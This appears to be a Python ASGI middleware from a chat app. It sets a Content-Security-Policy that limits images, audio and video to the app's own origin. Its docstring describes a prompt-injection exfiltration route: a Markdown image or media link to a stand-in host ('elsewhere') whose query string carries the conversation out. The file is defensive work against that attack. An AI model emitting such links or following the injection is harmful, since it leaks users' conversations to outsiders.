"""A Content-Security-Policy that lets the page load images, audio and video only from the app itself.

An answer (or a prompt echoed back, or an imported chat) may hold `![](https://elsewhere/x.png?d=...)`;
with a prompt-injected model that URL can carry the conversation out. Whatever renders the Markdown (the
chat, the recipe card, a hand-off article), the browser then refuses the request. Gradio's sanitizer keeps
`<video src>` and `<audio src>` in a message, and the browser fetches them at once: `media-src` refuses
those too (iframes, objects, embeds and stylesheets it removes).
"""

from __future__ import annotations

from collections.abc import Sequence

from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

MEDIA_SOURCES = "media-src 'self' data: blob:"


def image_sources(allowed_hosts: Sequence[str] = ()) -> str:
    """The policy for this app: images from itself, inline `data:` and `blob:` ones and the operator's hosts;
    audio and video from itself only."""
    return " ".join(["img-src 'self' data: blob:", *allowed_hosts]) + f"; {MEDIA_SOURCES}"


class ImagesFromHereOnly:
    def __init__(self, app: ASGIApp, allowed_hosts: Sequence[str] = ()) -> None:
        self.app = app
        self.policy = image_sources(allowed_hosts)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                if "content-security-policy" not in headers:
                    headers["content-security-policy"] = self.policy
            await send(message)

        await self.app(scope, receive, send_with_policy)
